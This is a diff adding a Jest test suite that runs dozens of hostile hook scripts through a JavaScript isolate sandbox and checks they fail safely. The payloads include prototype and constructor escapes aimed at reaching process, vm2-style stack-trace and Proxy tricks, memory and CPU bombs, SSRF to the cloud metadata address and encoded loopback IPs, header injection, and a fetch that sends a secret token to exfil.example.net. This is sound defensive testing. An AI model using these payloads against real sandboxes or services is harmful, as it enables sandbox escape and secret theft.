@@ -1,0 +1,167 @@
+/**
+ * Hostile hook scripts, run through the production path (SandboxPool → worker process → isolate).
+ * Each must end with the right status, within its time, with the host alive and unaffected.
+ */
+import { createHash, randomUUID } from 'node:crypto';
+import { existsSync, rmSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { toHookInput } from '../src/hookline/sandbox/hook-input';
+import { SandboxPool } from '../src/hookline/sandbox/sandbox.pool';
+import type { HookInvocation, InvocationResult, InvocationStatus } from '../src/hookline/sandbox/sandbox.types';
+import { createUserRegisteredEvent } from '../src/hookline';
+
+const MARKER = join(tmpdir(), `hookline-pwned-${randomUUID()}`);
+const CANARY = `canary-${randomUUID()}`;
+const TIMEOUT_MS = 1_500;
+/** Generous: CPU is shared with other test workers. Speed is measured by the benchmark, not here. */
+const SLACK_MS = 4_000;
+
+interface Case {
+  name: string;
+  source: string;
+  status: InvocationStatus;
+  check?(result: InvocationResult): void;
+  memoryMb?: number;
+  allowHosts?: string[];
+  secrets?: Record<string, string>;
+  /** Same hookId (and tenant) as another case, to share its isolate and context. */
+  hookId?: string;
+}
+
+const escape = (code: string) => `module.exports = async function (user, context) { ${code} };`;
+const fsWrite = `require('fs').writeFileSync(${JSON.stringify(MARKER)}, 'x')`;
+
+let receiverHits = 0;
+let port = 0;
+
+const cases: Case[] = [
+  // --- Escapes to the host realm -------------------------------------------------------------------
+  { name: 'this.constructor.constructor("return process")()', source: escape(`return this.constructor.constructor('return process')().pid;`), status: 'error', check: (r) => expect(r.error?.message).toMatch(/process is not defined|Cannot read/) },
+  { name: 'prototype walk from user', source: escape(`return user.constructor.constructor('return process')().mainModule.require('fs');`), status: 'error', check: (r) => expect(r.error?.message).toContain('process is not defined') },
+  { name: 'prototype walk from context and its secrets', source: escape(`return context.secrets.__proto__.constructor.constructor('return process')().env;`), status: 'error', check: (r) => expect(r.error?.message).toContain('process is not defined') },
+  { name: 'prototype walk from cb', source: `module.exports = function (u, c, cb) { cb(null, cb.constructor('return typeof process + typeof require + typeof Buffer')()); };`, status: 'ok', check: (r) => expect(r.response).toBe('undefinedundefinedundefined') },
+  { name: 'prototype walk from event and api (Actions)', source: `exports.onExecutePostUserRegistration = async (event, api) => { api.cache.set.constructor('return process')(); };`, status: 'error', check: (r) => expect(r.error?.message).toContain('process is not defined') },
+  { name: 'console and fetch lead to the isolate global only', source: escape(`const g = console.log.constructor('return this')(); const f = fetch.constructor('return this')(); return [g === f, typeof g.process, typeof g.require, typeof g.$0, Object.getOwnPropertyNames(g).filter(k => k.startsWith('$') || /ivm|host/i.test(k))];`), status: 'ok', check: (r) => expect(r.response).toEqual([true, 'undefined', 'undefined', 'undefined', []]) },
+  { name: 'fetch results and errors are isolate objects', source: escape(`const res = await fetch('http://127.0.0.1:PORT/ok'); const err = await fetch('http://forbidden.example/').catch((e) => e); return [typeof res.headers.get.constructor('return typeof process')(), err.constructor.constructor('return typeof process')(), err.name];`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(['string', 'undefined', 'TypeError']) },
+  { name: 'arguments.callee.caller reaches nothing', source: `module.exports = function (u, c, cb) { const caller = arguments.callee.caller; cb(null, caller === null ? 'null' : typeof caller); };`, status: 'ok', check: (r) => expect(r.response).toBe('null') },
+  { name: 'Error.prepareStackTrace frame walk (vm2 family)', source: escape(`const found = []; Error.prepareStackTrace = (e, frames) => { for (const f of frames) { try { const t = f.getThis(); const fn = f.getFunction(); for (const o of [t, fn]) if (o && o.constructor) found.push(o.constructor.constructor('return typeof process')()); } catch (x) { found.push('threw'); } } return 'trace'; }; new Error('x').stack; await Promise.resolve(); try { null.f(); } catch (e) { e.stack; } return found.filter((v) => v !== 'undefined' && v !== 'threw');`), status: 'ok', check: (r) => expect(r.response).toEqual([]) },
+  { name: 'Proxy thrown as error with hostile traps (vm2 family)', source: escape(`throw new Proxy(new Error('x'), { get(t, k) { if (k === 'name') throw new Error('trap'); if (k === 'message') return { toString() { return this.constructor.constructor('return process')(); } }; return Reflect.get(t, k); }, getPrototypeOf() { throw new Error('trap'); } });`), status: 'error', check: (r) => expect(r.error).toEqual({ name: 'Error', message: expect.any(String) }) },
+  { name: 'Promise.prototype.then hijack (vm2 family)', source: `const seen = []; const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { return then.call(this, (v) => { try { if (v && v.constructor) seen.push(v.constructor.constructor('return typeof process')()); } catch (e) {} return a ? a(v) : v; }, b); }; Promise.resolve = () => 'pwned'; JSON.stringify = () => '"pwned"'; module.exports = async () => { await null; return seen.filter((s) => s !== 'undefined'); };`, status: 'ok', check: (r) => expect(r.response).toEqual([]) },
+  { name: 'Symbol and inspect family: custom inspect and Symbol.toPrimitive in a response and logs', source: escape(`const evil = { [Symbol.for('nodejs.util.inspect.custom')]() { return this.constructor.constructor('return process')(); }, [Symbol.toPrimitive]() { return this.constructor.constructor('return process')(); }, toString() { throw new Error('no'); }, safe: 1 }; console.log(evil); console.log(Object.create(null)); console.log(Symbol('s')); return evil;`), status: 'ok', check: (r) => { expect(r.response).toEqual({ safe: 1 }); expect(r.logs.map((l) => l.message)).toEqual(['{"safe":1}', '{}', 'Symbol(s)']); } },
+  { name: 'require, import(), Buffer, process, file system', source: escape(`const out = [typeof require, typeof Buffer, typeof process, typeof module]; try { ${fsWrite}; } catch (e) { out.push(e.message); } try { await import('fs'); } catch (e) { out.push('import refused'); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(['function', 'undefined', 'undefined', 'object', 'require("fs") is not available in hooks: use fetch, or inline the code', 'import refused']) },
+  { name: 'module-scope require throws a clear error', source: `${fsWrite};\nmodule.exports = function (u, c, cb) { cb(); };`, status: 'error', check: (r) => expect(r.error?.message).toMatch(/require\("fs"\) is not available in hooks/) },
+  // --- Responses that try to surprise the host ----------------------------------------------------
+  { name: 'a getter that loops in the response', source: `module.exports = function (u, c, cb) { cb(null, { get x() { for (;;) {} } }); };`, status: 'timeout' },
+  { name: 'a Proxy response whose traps throw', source: `module.exports = function (u, c, cb) { cb(null, new Proxy({}, { ownKeys() { throw new Error('boom'); } })); };`, status: 'ok', check: (r) => { expect(r.response).toBeNull(); expect(r.logs[0].message).toContain('cannot be serialised'); } },
+  { name: 'toJSON in the response only yields data', source: escape(`return { toJSON() { return { fine: typeof process }; } };`), status: 'ok', check: (r) => expect(r.response).toEqual({ fine: 'undefined' }) },
+  { name: 'a circular response', source: escape(`const o = {}; o.self = o; return o;`), status: 'ok', check: (r) => expect(r.response).toBeNull() },
+  { name: 'a huge response', source: escape(`return 'x'.repeat(5e6);`), status: 'ok', check: (r) => { expect(r.response).toBeNull(); expect(r.logs[0].message).toContain('larger than'); } },
+  // --- Callback misuse and non-errors -------------------------------------------------------------
+  { name: 'cb called twice', source: `module.exports = function (u, c, cb) { cb(null, 1); cb(new Error('again')); };`, status: 'ok', check: (r) => { expect(r.response).toBe(1); expect(r.logs[0]).toEqual({ level: 'warn', message: expect.stringContaining('more than once') }); } },
+  { name: 'cb never called', source: `module.exports = function (u, c, cb) {};`, status: 'timeout', check: (r) => expect(r.error?.message).toContain('must call cb()') },
+  { name: 'throwing a number, null, a Symbol and an object', source: `let n = 0; module.exports = async () => { n++; if (n === 1) throw 42; };`, status: 'error', check: (r) => expect(r.error).toEqual({ name: 'Error', message: '42' }) },
+  { name: 'cb(Symbol())', source: `module.exports = function (u, c, cb) { cb(Symbol('s')); };`, status: 'error', check: (r) => expect(r.error?.message).toBe('Symbol(s)') },
+  { name: 'cb with an error whose getters throw', source: `module.exports = function (u, c, cb) { cb({ get name() { throw 1; }, get message() { throw 2; } }); };`, status: 'error', check: (r) => expect(r.error?.name).toBe('Error') },
+  // --- CPU -------------------------------------------------------------------------------------------
+  { name: 'an infinite synchronous loop', source: `module.exports = function () { for (;;) {} };`, status: 'timeout' },
+  { name: 'an infinite microtask loop', source: escape(`for (;;) await null;`), status: 'timeout' },
+  { name: 'an infinite promise-chain loop at module scope', source: `(function f() { Promise.resolve().then(f); })();\nmodule.exports = function (u, c, cb) { cb(); };`, status: 'timeout' },
+  { name: 'an infinite async loop over timers', source: escape(`for (;;) await new Promise((r) => setTimeout(r, 0));`), status: 'timeout' },
+  { name: 'a loop in a timer after cb', source: `module.exports = function (u, c, cb) { setTimeout(() => { for (;;) {} }, 1); cb(); };`, status: 'ok' },
+  { name: 'deep recursion', source: escape(`function f() { return f() + 1; } return f();`), status: 'error', check: (r) => expect(r.error).toEqual({ name: 'RangeError', message: 'Maximum call stack size exceeded' }) },
+  { name: 'SharedArrayBuffer and Atomics.wait', source: escape(`const out = [typeof SharedArrayBuffer, typeof Atomics]; try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); } catch (e) { out.push(e.name); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(['undefined', 'undefined', 'ReferenceError']) },
+  { name: 'a WebAssembly loop', source: escape(`const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]); new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();`), status: 'error', check: (r) => expect(r.error?.message).toContain('WebAssembly is not defined') },
+  // --- Memory --------------------------------------------------------------------------------------
+  { name: 'an array bomb', source: escape(`const a = []; for (;;) a.push(new Array(1e5).fill({}));`), status: 'memory_limit' },
+  { name: 'a string doubling bomb', source: escape(`let s = 'x'; for (;;) { s += s; s.indexOf('y'); }`), status: 'memory_limit' },
+  { name: 'an ArrayBuffer bomb', source: escape(`const a = []; for (;;) a.push(new ArrayBuffer(8 * 1024 * 1024));`), status: 'memory_limit' },
+  { name: 'new Array(50e6).fill(1.5) (aborts a whole process)', source: escape(`return new Array(50e6).fill(1.5).length;`), status: 'memory_limit' },
+  { name: 'an object grown to 10 million keys (aborts a whole process)', source: escape(`const o = {}; for (let i = 0; i < 1e7; i++) o['k' + i] = i; return 1;`), status: 'memory_limit' },
+  // --- Logs ----------------------------------------------------------------------------------------
+  { name: 'a console flood', source: escape(`for (let i = 0; i < 100000; i++) console.log('x'.repeat(1000));`), status: 'ok', check: (r) => { expect(r.logs.length).toBeLessThanOrEqual(101); expect(r.logs[r.logs.length - 1].message).toContain('log limit reached'); } },
+  // --- Network -------------------------------------------------------------------------------------
+  { name: 'fetch to loopback through a wildcard entry', source: escape(`return await fetch('http://127.0.0.1:PORT/').then(() => 'reached', (e) => e.message);`), allowHosts: ['*.example.com'], status: 'ok', check: (r) => expect(r.response).toContain('is not in allowHosts') },
+  { name: 'fetch to the metadata address and a private one', source: escape(`const out = []; for (const u of ['http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/', 'http://[::1]:PORT/', 'http://[fd00:ec2::254]/']) out.push(await fetch(u).then(() => 'reached', (e) => e.message)); return out;`), allowHosts: ['*.example.com', 'api.example.com'], status: 'ok', check: (r) => expect(r.response).toEqual(expect.arrayContaining([expect.stringContaining('not in allowHosts')])) },
+  { name: 'fetch to encoded IPs', source: escape(`const out = []; for (const u of ['http://2130706433:PORT/', 'http://0x7f000001:PORT/', 'http://017700000001:PORT/', 'http://127.1:PORT/']) out.push(await fetch(u).then(() => 'reached', (e) => e.message)); return out;`), allowHosts: ['localhost:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(Array(4).fill('fetch: host 127.0.0.1:PORT is not in allowHosts')) },
+  { name: 'fetch to a host not allowed, logged', source: escape(`return await fetch('https://exfil.example.net/?d=' + context.secrets.TOKEN).then(() => 'reached', (e) => e.message);`), allowHosts: ['api.example.com'], secrets: { TOKEN: 'tok_abcdef' }, status: 'ok', check: (r) => { expect(r.response).toBe('fetch: host exfil.example.net:443 is not in allowHosts'); expect(r.logs).toEqual([{ level: 'warn', message: '[hookline] fetch: host exfil.example.net:443 is not in allowHosts' }]); } },
+  { name: 'header injection', source: escape(`return await fetch('http://127.0.0.1:PORT/', { headers: { 'x-a': 'b\\r\\nHost: evil' } }).then(() => 'reached', (e) => e.message);`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toContain('line break') },
+  { name: 'a fetch flood is capped', source: escape(`const all = []; for (let i = 0; i < 30; i++) all.push(fetch('http://127.0.0.1:PORT/ok').then(() => 'ok', (e) => e.message)); const out = await Promise.all(all); return out.filter((x) => x !== 'ok').length;`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toBe(10) },
+  // --- Isolation between hooks and invocations -----------------------------------------------------
+  { name: 'hook A stashes its secrets and pollutes prototypes', hookId: 'acme/hook/a', source: escape(`globalThis.stash = context.secrets; Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'pwned'; JSON.parse = () => ({}); return 'done';`), secrets: { A_KEY: 'secret-of-a' }, status: 'ok' },
+  { name: 'hook B (same tenant) sees neither', hookId: 'acme/hook/b', source: escape(`return { stash: typeof globalThis.stash, polluted: ({}).polluted === undefined, keys: Object.keys(context.secrets), user: user.email };`), secrets: { B_KEY: 'secret-of-b' }, status: 'ok', check: (r) => expect(r.response).toEqual({ stash: 'undefined', polluted: true, keys: ['B_KEY'], user: 'ada@example.com' }) },
+  { name: 'hook A again: its own pollution persists, the machinery is intact', hookId: 'acme/hook/a', source: escape(`globalThis.stash = context.secrets; Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'pwned'; JSON.parse = () => ({}); return 'done';`), secrets: { A_KEY: 'secret-of-a' }, status: 'ok', check: (r) => expect(r.response).toBe('done') },
+  { name: 'reading the environment', source: escape(`return Object.getOwnPropertyNames(globalThis).map((k) => { try { return k + '=' + String(globalThis[k]).slice(0, 50); } catch (e) { return k; } });`), status: 'ok', check: (r) => expect(JSON.stringify(r.response)).not.toContain(CANARY) },
+];
+
+describe('sandbox security: hostile hook scripts', () => {
+  const pool = new SandboxPool({ size: 1 });
+  let receiver: Server;
+  const event = createUserRegisteredEvent({ tenant: 'acme', user: { id: 'u1', email: 'ada@example.com' } });
+
+  beforeAll(async () => {
+    process.env.HOOKLINE_SECURITY_CANARY = CANARY;
+    receiver = createServer((_req, res) => {
+      receiverHits++;
+      res.end('ok');
+    });
+    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
+    port = (receiver.address() as { port: number }).port;
+  });
+
+  afterAll(async () => {
+    await pool.close();
+    receiver.close();
+    delete process.env.HOOKLINE_SECURITY_CANARY;
+    rmSync(MARKER, { force: true });
+  });
+
+  const withPort = (text: string) => text.replace(/PORT/g, String(port));
+
+  it('has at least 25 hostile scripts', () => expect(cases.length).toBeGreaterThanOrEqual(25));
+
+  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
+    const source = withPort(c.source);
+    // A tenant per case: a tenant's hooks share its isolate (one thread), so a case still burning CPU
+    // until its timeout would delay the next. The isolation cases share tenant acme on purpose.
+    const tenant = c.hookId ? 'acme' : `t${createHash('sha1').update(c.name).digest('hex').slice(0, 10)}`;
+    const invocation: HookInvocation = {
+      tenant,
+      hookId: c.hookId ?? `${tenant}/hook/x`,
+      script: { filename: 'hostile.js', source, hash: createHash('sha256').update(source).digest('hex') },
+      input: toHookInput(event),
+      secrets: c.secrets ?? { API_KEY: 'sk_live_123456' },
+      allowHosts: (c.allowHosts ?? []).map(withPort),
+      timeoutMs: TIMEOUT_MS,
+      memoryMb: c.memoryMb ?? 32,
+    };
+    const started = Date.now();
+    const result = await pool.invoke(invocation);
+    const elapsed = Date.now() - started;
+    expect({ status: result.status, error: result.error }).toEqual({ status: c.status, error: c.status === 'ok' ? null : expect.anything() });
+    c.check?.(JSON.parse(JSON.stringify(result).split(String(port)).join('PORT')));
+    expect(elapsed).toBeLessThan(TIMEOUT_MS + SLACK_MS);
+    // The host is unaffected: nothing written, no pollution, and the sandbox still serves a benign hook.
+    expect(existsSync(MARKER)).toBe(false);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(JSON.stringify(result)).not.toContain(CANARY);
+  });
+
+  it('still runs a benign hook afterwards, and refused fetches never reached the receiver', async () => {
+    const source = `module.exports = function (user, context, cb) { cb(null, [1, 2].map((x) => x * 2)); };`;
+    const result = await pool.invoke({
+      tenant: 'acme',
+      hookId: 'acme/hook/benign',
+      script: { filename: 'benign.js', source, hash: 'benign' },
+      input: toHookInput(event),
+      secrets: {},
+      allowHosts: [],
+      timeoutMs: TIMEOUT_MS,
+      memoryMb: 32,
+    });
+    expect(result).toMatchObject({ status: 'ok', response: [2, 4] });
+    // 1 (fetch results case) + 20 (fetch flood); refusals, injections and encoded IPs never connected.
+    expect(receiverHits).toBe(21);
+  });
+});
